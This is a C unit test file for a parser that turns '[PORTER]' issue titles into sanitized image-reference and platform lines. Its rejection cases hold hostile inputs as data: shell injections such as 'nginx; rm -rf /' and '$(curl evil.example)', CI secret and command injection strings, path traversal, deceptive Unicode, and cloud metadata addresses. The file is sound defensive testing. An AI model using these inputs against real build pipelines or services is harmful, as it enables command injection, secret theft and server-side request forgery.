/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Goal: of an issue's title only a reference and platforms come out, written anew, in characters that no shell, no file
 * of KEY=VALUE lines and no log reads as anything else; whatever else a title holds is refused, with its reason.
 */
#include "flow/porter.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static const char *const local[] = { "localhost:5000", "127.0.0.1:5000", "10.0.0.1", NULL };

/* What a title gives, or "" if it is refused; the reason is in *e. */
static const char *lines(const char *title, size_t len, const char *const *allow, struct err *e)
{
	static char out[4096];
	struct porter p;
	AUTO_BUF b = { 0 };

	*e = (struct err){ 0 };
	*out = '\0';
	if (!porter_parse(&p, title, len, allow, e)) {
		assert_int_equal(porter_lines(&p, &b, e), 0);
		(void)snprintf(out, sizeof(out), "%s", b.data);
	}
	return out;
}

static void right_ones(void **state)
{
	static const char *const cases[][2] = {
		{ "[PORTER] gcr.io/ns/image:tag", "reference=gcr.io/ns/image:tag\nplatforms=\n" },
		{ "[PORTER]gcr.io/ns/image:tag|linux/arm64", "reference=gcr.io/ns/image:tag\nplatforms=linux/arm64\n" },
		{ "  [PORTER]  quay.io/a/b  |  linux/amd64 , linux/aarch64,linux/arm64 \r\n",
		  "reference=quay.io/a/b:latest\nplatforms=linux/amd64,linux/arm64\n" },
		{ "[PORTER] nginx\n", "reference=docker.io/library/nginx:latest\nplatforms=\n" },
		{ "[PORTER] k8s.gcr.io/pause:3.9|linux/arm/v7",
		  "reference=k8s.gcr.io/pause:3.9\nplatforms=linux/arm/v7\n" },
	};
	struct err e;

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++)
		assert_string_equal(lines(cases[i][0], strlen(cases[i][0]), NULL, &e), cases[i][1]);
}

static void hostile_ones(void **state)
{
	static const struct {
		const char *title, *says;
	} cases[] = {
		{ "", "does not begin" },
		{ "[porter] nginx", "does not begin" },
		{ "PORTER nginx", "does not begin" },
		{ "[PORTER]", "names no image" },
		{ "[PORTER]  |linux/amd64", "names no image" },
		{ "[PORTER] nginx|", "names no platform" },
		{ "[PORTER] nginx|linux/amd64,", "names no platform" },
		{ "[PORTER] nginx|linux/amd64|linux/arm64", "" },
		{ "[PORTER] nginx | linux/$(id)", "" },
		{ "[PORTER] nginx quay.io/b", "" },
		{ "[PORTER] nginx; rm -rf /", "" },
		{ "[PORTER] $(curl evil.example)", "" },
		{ "[PORTER] `id`", "" },
		{ "[PORTER] \"nginx\"", "" },
		{ "[PORTER] nginx'", "" },
		{ "[PORTER] nginx:1\"; id; \"", "" },
		{ "[PORTER] nginx && id", "" },
		{ "[PORTER] nginx > /etc/passwd", "" },
		{ "[PORTER] ${{ secrets.TOKEN }}", "" },
		{ "[PORTER] ${IFS}nginx", "" },
		{ "[PORTER] nginx\\", "" },
		{ "[PORTER] --cacert=/etc/passwd", "" },
		{ "[PORTER] ../../etc/passwd", "" },
		{ "[PORTER] https://quay.io/a/b", "" },
		{ "[PORTER] nginx\nplatforms=linux/amd64", "U+000A" },
		{ "[PORTER] nginx\rx", "U+000D" },
		{ "[PORTER] nginx\n\n", "U+000A" },
		{ "[PORTER] nginx\tx", "U+0009" },
		{ "[PORTER] \033[31mnginx", "U+001B" },
		{ "[PORTER] ngin\xd1\x85", "U+0445" },  /* a Cyrillic ha */
		{ "[PORTER] nginx\xc2\xa0", "U+00A0" }, /* a blank that is none */
		{ "[PORTER] nginx\xe2\x80\xae"
		  "1:tset",
		  "U+202E" }, /* right to left */
		{ "[PORTER] nginx\xe2\x80\xa8x", "U+2028" },
		{ "[PORTER] \xef\xbc\x84(id)", "U+FF04" },
		{ "\xef\xbb\xbf[PORTER] nginx", "U+FEFF" },
		{ "[PORTER] nginx\xff", "U+00FF" },
		{ "::set-output name=x::y", "does not begin" },
		{ "[PORTER] ::set-output name=x::y", "" },
		{ "[PORTER] ##[set-env name=PATH]x", "" },
		{ "[PORTER] nginx|::add-mask::x", "" },
		{ "[PORTER] localhost:5000/a", "no public registry" },
		{ "[PORTER] 127.0.0.1:5000/a", "no public registry" },
		{ "[PORTER] 169.254.169.254/latest/meta-data", "no public registry" },
		{ "[PORTER] 10.0.0.1/a", "no public registry" },
		{ "[PORTER] [::1]:5000/a", "no public registry" },
		{ "[PORTER] registry:5000/a", "no public registry" },
		{ "[PORTER] metadata.google.internal/a", "no public registry" },
	};
	struct err e;

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		if (*lines(cases[i].title, strlen(cases[i].title), NULL, &e))
			fail_msg("taken: %s", cases[i].title);
		assert_int_equal(e.kind, ERR_USAGE);
		if (!strstr(e.text, cases[i].says))
			fail_msg("%s: %s", cases[i].title, e.text);
		for (const char *c = e.text; *c; c++)
			assert_true(*c >= ' ');
	}
	assert_string_equal(lines("[PORTER] ngi\0nx", 15, NULL, &e), "");
	assert_non_null(strstr(e.text, "U+0000"));
}

/* A title of any length ends in an answer; at the edges it is the length that is named. */
static void long_ones(void **state)
{
	AUTO_MEM char *title = malloc(LIMIT_TITLE + 2);
	struct err e;

	(void)state;
	memset(title, 'a', LIMIT_TITLE + 2);
	memcpy(title, "[PORTER] ", 9);
	assert_string_equal(lines(title, LIMIT_TITLE + 1, NULL, &e), "");
	assert_non_null(strstr(e.text, "longer than 1024 bytes"));
	assert_string_equal(lines(title, LIMIT_TITLE, NULL, &e), "");
	assert_non_null(strstr(e.text, "longer than 512 bytes"));
	memset(title + 9, ' ', LIMIT_TITLE - 9);
	memcpy(title + LIMIT_TITLE - 5, "nginx", 5);
	assert_string_not_equal(lines(title, LIMIT_TITLE, NULL, &e), "");
}

/* Every byte in every place of a right title: refused, or nothing comes out but the alphabet of names. */
static void every_byte(void **state)
{
	static const char right[] = "[PORTER] quay.io/a/b:1|linux/arm64";
	static const char alphabet[] = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./:@_-,[]=\n";
	char title[sizeof(right)];
	struct err e;

	(void)state;
	for (size_t i = 0; i < sizeof(right) - 1; i++) {
		for (int c = 0; c < 256; c++) {
			memcpy(title, right, sizeof(right));
			title[i] = (char)c;
			const char *out = lines(title, sizeof(right) - 1, NULL, &e);
			if (!*out)
				continue;
			assert_int_equal(strspn(out, alphabet), strlen(out));
			assert_ptr_equal(strchr(strchr(out, '\n') + 1, '\n') + 1, out + strlen(out));
		}
	}
}

static void allowed_ones(void **state)
{
	struct err e;

	(void)state;
	assert_string_equal(lines("[PORTER] localhost:5000/a:1", 27, local, &e),
			    "reference=localhost:5000/a:1\nplatforms=\n");
	assert_string_equal(lines("[PORTER] 10.0.0.1/a:1", 21, local, &e), "reference=10.0.0.1/a:1\nplatforms=\n");
	assert_string_equal(lines("[PORTER] quay.io/a/b:1", 22, local, &e), "");
	assert_non_null(strstr(e.text, "may be named here"));
	assert_string_equal(lines("[PORTER] localhost:50001/a:1", 28, local, &e), "");
}

static void as_json(void **state)
{
	static const char title[] = "[PORTER] quay.io/a/b:1|linux/arm64";
	struct porter p;
	struct err e = { 0 };
	AUTO_BUF b = { 0 };

	(void)state;
	assert_int_equal(porter_parse(&p, title, strlen(title), NULL, &e), 0);
	assert_int_equal(porter_json(&p, &b, &e), 0);
	assert_string_equal(b.data, "{\"reference\":\"quay.io/a/b:1\",\"platforms\":[\"linux/arm64\"]}\n");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(right_ones), cmocka_unit_test(hostile_ones), cmocka_unit_test(long_ones),
		cmocka_unit_test(every_byte), cmocka_unit_test(allowed_ones), cmocka_unit_test(as_json),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
